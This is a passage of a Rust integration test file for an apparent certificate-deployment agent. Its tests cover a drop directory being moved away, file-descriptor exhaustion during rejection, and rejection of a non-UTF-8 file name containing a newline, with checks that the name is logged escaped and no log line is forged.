    let w = Watcher::start(&env, &agent);
    let leaf = pki::issue_cert(&["app.test"]);
    rename_in(&env, "app.pem", leaf.bundle_pem());
    agent.wait_for_log("renamed into place", Duration::from_secs(30));
    let drop_dir = env.drop_dir();
    let away = drop_dir.with_extension("away");
    std::fs::rename(&drop_dir, &away).unwrap();
    wait_watching(&env, &agent, false);
    std::fs::rename(&away, &drop_dir).unwrap();
    wait_watching(&env, &agent, true);

    wait_idle(&env, &agent);
    let finals = w.wait_finals("app", 1);
    std::thread::sleep(Duration::from_millis(500));
    let finals_now = w.finals("app");
    assert_eq!(finals_now.len(), 1, "{finals:#?}\n{finals_now:#?}");
    assert_eq!(finals_now[0]["drop"]["outcome"], "removed");
    assert_eq!(w.deploys("app").len(), 1, "{:#?}", w.deploys("app"));
    assert_eq!(cert_of(&dir), leaf.fullchain_pem());
}

/// Sets the agent's soft limit of open files (`prlimit`), or `None` when
/// `prlimit` is not there.
fn set_nofile(pid: u32, soft: usize) -> Option<()> {
    let out = std::process::Command::new("prlimit")
        .arg(format!("--pid={pid}"))
        .arg(format!("--nofile={soft}:"))
        .output()
        .ok()?;
    assert!(out.status.success(), "prlimit: {out:?}");
    Some(())
}

#[test]
fn descriptors_running_out_while_rejecting_delay_the_move_and_lose_nothing() {
    let (env, _dir) = app_env();
    let agent = env.spawn_agent();
    let pid = agent.pid();
    // Let the start-up check's connection close first.
    std::thread::sleep(Duration::from_millis(300));
    // The lowest free descriptor number becomes the limit: no open succeeds.
    let fds: std::collections::BTreeSet<usize> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .collect();
    let lowest_free = (0..).find(|n| !fds.contains(n)).unwrap();
    if set_nofile(pid, lowest_free).is_none() {
        eprintln!("SKIPPED: no prlimit");
        return;
    }
    let leaf = pki::issue_cert(&["app.test"]);
    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
    agent.wait_for_log("and the move is tried again in", Duration::from_secs(30));
    // Where the log says: still in the drop directory, taken, and nothing
    // in rejected/ (no drop without its reason).
    let left = drop_entries(&env);
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(left[0].starts_with(".certctl-claimed."), "{left:?}");
    assert!(agent.log().contains(&format!(
        "stays in the drop directory as {}",
        arg(&env.drop_dir().join(&left[0]))
    )));
    assert_eq!(
        std::fs::read_dir(env.state_dir().join("rejected"))
            .unwrap()
            .count(),
        0
    );
    assert!(
        agent.log().contains("Too many open files"),
        "{}",
        agent.log()
    );

    // Descriptors back: the retry moves it aside with its reason.
    set_nofile(pid, 1024).unwrap();
    wait_idle(&env, &agent);
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
    assert_eq!(logged_finals(&agent).get("failed"), None, "{}", agent.log());
}

#[test]
fn a_name_that_is_not_utf8_is_rejected_once() {
    use std::os::unix::ffi::OsStrExt;
    let (env, _dir) = app_env();
    let agent = env.spawn_agent();
    let tmp = env.drop_dir().join(".raw.tmp");
    std::fs::write(&tmp, b"junk").unwrap();
    std::fs::rename(
        &tmp,
        env.drop_dir()
            .join(std::ffi::OsStr::from_bytes(b"caf\xe9\n.pem")),
    )
    .unwrap();
    wait_idle(&env, &agent);
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
    assert!(
        rejected[0].1.contains("reason:   invalid_name\n"),
        "{}",
        rejected[0].1
    );
    // The real bytes, escaped, wherever the name is shown: not a lossy
    // replacement character that names no file.
    let shown = "caf\\xe9\\n.pem";
    assert!(rejected[0].1.contains(shown), "{}", rejected[0].1);
    assert!(
        rejected[0].1.contains(&format!(
            "drop:     {}/caf\\xe9\\n.pem (file)\n",
            env.drop_dir().display()
        )),
        "{}",
        rejected[0].1
    );
    assert!(!rejected[0].1.contains('\u{fffd}'), "{}", rejected[0].1);
    assert!(agent.log().contains(shown), "{}", agent.log());
    assert_eq!(logged_finals(&agent).get("rejected"), Some(&1));
    assert_no_forged_log_line(&agent);
}
